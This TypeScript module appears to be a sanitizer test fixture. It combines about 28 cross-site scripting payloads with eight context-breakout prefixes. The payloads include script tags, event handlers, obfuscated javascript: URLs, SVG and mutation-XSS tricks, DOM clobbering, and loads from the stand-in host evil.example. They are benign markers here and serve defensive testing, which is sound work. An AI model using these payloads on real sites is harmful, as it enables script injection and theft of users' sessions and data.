/**
 * What publishers, writers and readers may put where a page shows words: each way to make a browser run or load something,
 * behind each way out of the place where words stand. What runs sets `window.broken`; what loads asks EVIL.
 */

/** Only pictures may be requested from it. */
export const EVIL = 'https://evil.example';

const RUN = 'top.broken=1';

/** Before a text: characters that end the place of the text. */
const WAYS_OUT = [
  (text: string) => text,
  (text: string) => `">${text}`,
  (text: string) => `'>${text}`,
  (text: string) => `</title></style></script>${text}`,
  (text: string) => `--></noscript></noframes></template></textarea>${text}`,
  (text: string) => `]]></p></li></main></body></html>${text}`,
  // A parser that parses twice finds other elements the second time.
  (text: string) => `<math><mtext><table><mglyph><style><!--</style>${text}`,
  // Text that is decoded once too often.
  (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
];

const ATTACKS = [
  `<script>${RUN}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<img src="/broken.png" onerror="${RUN}">`,
  `<img title="--&gt;&lt;img src=/broken.png onerror=${RUN}&gt;" src="/broken.png">`,
  `<svg onload="${RUN}"><style><img src=/broken.png onerror=${RUN}></style></svg>`,
  `<svg><script>${RUN}</script><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text>x</text></a></svg>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="${EVIL}/x.svg"></object><embed src="${EVIL}/x.html">`,
  `<a href="javascript:${RUN}">link</a>`,
  `<a href=" &#1;jAvA&Tab;scr&NewLine;ipt&colon;${RUN}">link</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">link</a>`,
  `<form action="javascript:${RUN}"><input name="attributes"><button>x</button></form>`,
  `<button form="search" formaction="javascript:${RUN}">x</button>`,
  `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"></select>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<video src="${EVIL}/x.mp4" autoplay onloadstart="${RUN}"><source onerror="${RUN}"></video>`,
  `<body onload="${RUN}" onpageshow="${RUN}"><frameset onload="${RUN}">`,
  `<style>@import "${EVIL}/x.css";main{display:none}</style>`,
  `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${RUN}">x</b>`,
  `<link rel="stylesheet" href="${EVIL}/x.css"><link rel="modulepreload" href="${EVIL}/x.js">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/"><base href="${EVIL}/">`,
  `<div><template shadowrootmode="open"><script>${RUN}</script></template></div>`,
  // Marks of React and of our code, and names that hide elements of the page.
  `<!--$?--><template id="B:0"></template><!--/$--><div hidden id="S:0"><script>${RUN}</script></div>`,
  `<div data-island="radio" data-props='{"streamUrl":"${EVIL}/x"}'></div><a data-see-all data-play="${EVIL}/x" href="#x">x</a>`,
  `<img id="main" name="trustedTypes" src="/broken.png"><a id="masthead"></a><form id="earlyRadio"></form>`,
  `{name} $& $' $1 \u2028\u202E${'</noscript><noscript>'}<p title="</noscript><img src=/broken.png onerror=${RUN}>">`,
];

export const HOSTILE_TEXTS: readonly string[] = ATTACKS.flatMap((attack) =>
  WAYS_OUT.map((behind) => behind(attack)),
);
